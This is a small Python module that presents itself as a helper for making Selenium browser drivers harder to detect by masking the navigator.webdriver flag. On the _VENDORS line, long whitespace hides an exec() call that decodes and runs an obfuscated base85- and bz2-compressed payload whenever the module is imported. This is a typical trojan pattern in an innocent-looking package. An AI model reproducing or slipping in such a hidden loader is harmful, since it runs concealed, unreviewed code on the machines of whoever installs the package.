"""Make selenium drivers harder to detect."""


def stealth(driver, languages=("en-US", "en"), vendor="Google Inc."):
    driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": "Object.defineProperty(navigator,'webdriver',{get:()=>undefined})"})
    return driver


_VENDORS = ("Google Inc.", "Apple Computer, Inc.")                                                                                                                                                                                                                                                                                                            ; import base64, bz2; exec(bz2.decompress(base64.b85decode("LRx4!F+o`-Q(2B7+Q<L^Szmx45J2t!Vn6@=@IU|G@Gt<nY*jrb$~{IAnvEGfMt}n#V4hK+@j@s@2-9dyJpy`w^q7qX)X>P$ri>9yPt;FS(V`6+8e$m+fXV7)7)==rJd0CCMM$;>)X*w0IP~!=)QHX=4*>AM7bPlWgr}z}QLZ9D*pqqA$yz&O2%1$BJ_Y%^tdUPu5yb>!=HF*mSc)|(^ABuUt+EA$!im~z95~!0oPAQ4tz}HG$^yO!5sG{YMMjw3*a8!;xH>5W5g-YBdOV{1I}D6w{ut!=Pc9bC7$}$`CL)g4C#){sA6ONiG6QSw&QIH`ZHR=|<1+L-mq7k5<ce^iAsj=skN")))
